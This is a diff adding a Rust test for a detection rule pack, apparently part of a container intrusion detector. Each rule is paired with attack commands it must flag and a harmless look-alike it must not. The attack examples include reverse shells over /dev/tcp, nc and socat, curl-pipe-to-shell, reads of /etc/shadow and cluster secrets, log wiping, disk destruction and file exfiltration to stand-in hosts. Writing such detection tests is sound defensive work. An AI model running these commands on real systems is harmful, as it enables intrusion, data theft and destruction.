@@ -1,0 +1,231 @@
+//! The own pack: each rule hits what it was written for and nothing ordinary.
+
+use super::*;
+
+/// Titles of the rules of the own pack that an example hits: a program's path and line, or a peer.
+fn titles(rules: &Indicators, example: &str) -> BTreeSet<String> {
+    let found = match example.split_once(' ') {
+        Some((path, line)) => hits(rules, run(path, line), Action::Exec),
+        None => {
+            let (address, port) = example.rsplit_once(':').unwrap();
+            let action = Action::Connect { address, port: port.parse().unwrap(), name: "" };
+            hits(rules, run("/usr/bin/x", "x"), action)
+        }
+    };
+    let titles = |hit: Hit| {
+        let known = rules.processes.rules.iter().chain(&rules.connections.rules);
+        let named = known.map(|rule| rule.compiled.title.clone());
+        named.filter(|title| hit.fact.contains(title)).collect::<Vec<_>>()
+    };
+    found.into_iter().flat_map(titles).collect()
+}
+
+/// For each rule of the own pack: its title, what it must hit and what it must leave alone.
+const EXAMPLES: &[(&str, &[&str], &str)] = &[
+    (
+        "Shell joined to a network socket by /dev/tcp",
+        &["/bin/bash bash -c cat </dev/tcp/10.0.0.1/80"],
+        "/bin/ls ls /dev/tty",
+    ),
+    (
+        "What was fetched is run at once",
+        &[
+            "/bin/sh sh -c curl -s http://a.example/x|sh",
+            "/bin/sh sh -c wget -O- https://a.example/x | /bin/bash -s",
+        ],
+        "/bin/sh sh -c curl http://a.example/x | sha256sum",
+    ),
+    (
+        "Code that ties a socket to a shell",
+        &["/usr/bin/python3 python3 -c import socket,os;s.connect((h,1));os.dup2(s.fileno(),0)"],
+        "/usr/bin/python3 python3 -c import socket;s.connect((h,1))",
+    ),
+    (
+        "A relay is told to run a program",
+        &[
+            "/bin/nc nc 10.0.0.1 80 -e /bin/sh",
+            "/usr/bin/socat socat TCP:10.0.0.1:80 EXEC:sh",
+            "/bin/nc nc -e sh h 1",
+        ],
+        "/bin/echo echo -e shop",
+    ),
+    (
+        "A named pipe makes netcat a shell",
+        &["/bin/sh sh -c mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 80 > f"],
+        "/usr/bin/mkfifo mkfifo /run/sync ",
+    ),
+    (
+        "Text is decoded on the command line",
+        &["/bin/sh sh -c echo aWQ= | base64 -d"],
+        "/usr/bin/base64 base64 /etc/web.conf",
+    ),
+    (
+        "A harmless tool is asked for a shell",
+        &[
+            "/usr/bin/find find . -exec /bin/sh -p ;",
+            "/usr/bin/awk awk BEGIN {system(\"/bin/sh\")}",
+            "/usr/bin/vim vim -c :!sh",
+        ],
+        "/usr/bin/find find /srv -name x -exec rm {} ;",
+    ),
+    (
+        "An interpreter makes a file in memory",
+        &["/usr/bin/perl perl -e syscall(319,$n,1)"],
+        "/usr/bin/perl perl -e print 319",
+    ),
+    (
+        "A library is pushed into a program",
+        &["/usr/bin/env env LD_PRELOAD=/tmp/x.so id"],
+        "/usr/bin/env env LD_PRELOAD=/usr/lib/libjemalloc.so redis-server",
+    ),
+    (
+        "A file of credentials is named",
+        &["/bin/cat cat /etc/shadow", "/bin/tar tar cf x /srv/*.pem"],
+        "/bin/cat cat /etc/passwd",
+    ),
+    (
+        "The cluster is asked for its secrets",
+        &[
+            "/usr/bin/curl curl -k https://kubernetes.default.svc/api/v1/secrets",
+            "/bin/kubectl kubectl auth can-i --list",
+        ],
+        "/usr/bin/curl curl https://shop.example/api/v1/orders",
+    ),
+    (
+        "Passwords are searched for by name",
+        &["/bin/grep grep -ri password /srv"],
+        "/bin/grep grep error /srv/log",
+    ),
+    (
+        "A place is named from which programs are started again",
+        &["/bin/sh sh -c echo x >> /root/.ssh/authorized_keys", "/usr/bin/crontab ct -l"],
+        "/bin/cat cat /srv/web.conf",
+    ),
+    (
+        "A program is given another's rights",
+        &[
+            "/bin/chmod chmod u+s /bin/bash",
+            "/bin/chmod chmod 4755 /srv/x",
+            "/sbin/setcap setcap cap_setuid+ep /x",
+        ],
+        "/bin/chmod chmod 0755 /srv/x",
+    ),
+    (
+        "A file in a scratch directory is made executable",
+        &[
+            "/bin/chmod chmod +x /tmp/a",
+            "/bin/chmod chmod 755 /dev/shm/a",
+            "/bin/sh sh -c chmod -R u=rwx /tmp/a",
+        ],
+        "/bin/chmod chmod 644 /tmp/x7",
+    ),
+    (
+        "A file is kept from being removed",
+        &["/usr/bin/chattr chattr +i /tmp/x"],
+        "/usr/bin/lsattr lsattr /tmp/x",
+    ),
+    (
+        "An interface to the host is named",
+        &["/usr/bin/curl curl --unix-socket /var/run/docker.sock http://x/"],
+        "/bin/cat cat /proc/cpuinfo",
+    ),
+    (
+        "A toolkit against containers",
+        &["/tmp/cdk /tmp/cdk evaluate", "/bin/sh sh linpeas.sh"],
+        "/usr/bin/cdktool cdktool x",
+    ),
+    (
+        "A way out of the container is looked for",
+        &["/bin/cat cat /proc/1/cgroup", "/bin/grep grep CapEff /proc/self/status"],
+        "/bin/cat cat /proc/self/status",
+    ),
+    (
+        "Programs with others' rights are searched for",
+        &[
+            "/usr/bin/find find / -perm -4000 -type f",
+            "/usr/bin/find find / -perm -u=s",
+            "/sbin/getcap getcap -r /",
+        ],
+        "/usr/bin/find find /srv -perm 0644",
+    ),
+    ("The runtime's API is called over the network", &["172.17.0.1:2375"], "172.17.0.1:443"),
+    ("The cluster's inner ports are called", &["10.0.0.1:10250"], "10.0.0.1:5432"),
+    (
+        "Logs or the shell's history are removed",
+        &["/bin/sh sh -c history -c", "/bin/rm rm -rf /var/log/nginx"],
+        "/bin/cat cat /var/log/nginx/access.log",
+    ),
+    (
+        "What watches is switched off",
+        &["/usr/bin/pkill pkill -9 falco", "/sbin/iptables iptables -F"],
+        "/usr/bin/pkill pkill -HUP nginx",
+    ),
+    (
+        "A file is given another's date",
+        &["/bin/touch touch -r /bin/ls /tmp/x", "/bin/touch touch -acmr /bin/ls x"],
+        "/bin/touch touch /run/ready",
+    ),
+    (
+        "Data is wiped",
+        &["/bin/rm rm -rf /*", "/bin/dd dd if=/dev/zero of=/dev/sda", "/sbin/mkfs.ext4 mkfs.ext4 /dev/vda"],
+        "/bin/dd dd if=a of=/dev/null",
+    ),
+    (
+        "Data is encrypted",
+        &[
+            "/usr/bin/gpg gpg -c /srv/db",
+            "/usr/bin/openssl openssl enc -aes-256-cbc -in x",
+            "/usr/bin/zip zip -P x a",
+        ],
+        "/usr/bin/openssl openssl dgst x",
+    ),
+    (
+        "A miner's words on the command line",
+        &["/srv/x /srv/x -o stratum+tcp://pool:1"],
+        "/srv/x /srv/x --coins 5",
+    ),
+    ("A port that mining pools use", &["203.0.113.9:3333"], "203.0.113.9:443"),
+    (
+        "A file is sent away",
+        &[
+            "/usr/bin/curl curl -F f=@/srv/db https://a.example",
+            "/usr/bin/curl curl --data-binary @db http://a.example",
+        ],
+        "/usr/bin/curl curl -d x=1 http://a.example",
+    ),
+    (
+        "A file is fetched into a scratch directory",
+        &["/usr/bin/curl curl -o /tmp/x http://a.example/x", "/bin/wget wget http://a.example/x -P /dev/shm"],
+        "/usr/bin/curl curl http://a.example/tmp/x",
+    ),
+    (
+        "A tunnel is built",
+        &["/tmp/chisel x client a:1 R:socks", "/usr/bin/ssh ssh -N -R 9000:localhost:22 h"],
+        "/usr/bin/ssh ssh host ls",
+    ),
+    (
+        "A name where anyone can leave files",
+        &["/usr/bin/curl curl https://pastebin.com/raw/x"],
+        "/usr/bin/curl curl https://profile.io/x",
+    ),
+    ("A port that remote shells wait on", &["203.0.113.9:4444"], "203.0.113.9:80"),
+];
+
+#[test]
+fn every_rule_of_the_own_pack_loads_and_hits_its_examples_and_nothing_ordinary() {
+    let mut own = Indicators::default();
+    for (file, yaml) in OWN {
+        let added = own.add(file, yaml);
+        assert_eq!((added.broken, added.skipped), (vec![], 0));
+    }
+    let all = own.processes.rules.iter().chain(&own.connections.rules);
+    let all: BTreeSet<&str> = all.map(|rule| rule.compiled.title.as_str()).collect();
+    let shown: BTreeSet<&str> = EXAMPLES.iter().map(|(title, ..)| *title).collect();
+    assert_eq!((all, own.len()), (shown, EXAMPLES.len()));
+    for (title, attacks, ordinary) in EXAMPLES {
+        for attack in *attacks {
+            assert!(titles(&own, attack).contains(*title), "{title} misses {attack}");
+        }
+        assert_eq!(titles(&own, ordinary), BTreeSet::new(), "{ordinary}");
+    }
+}
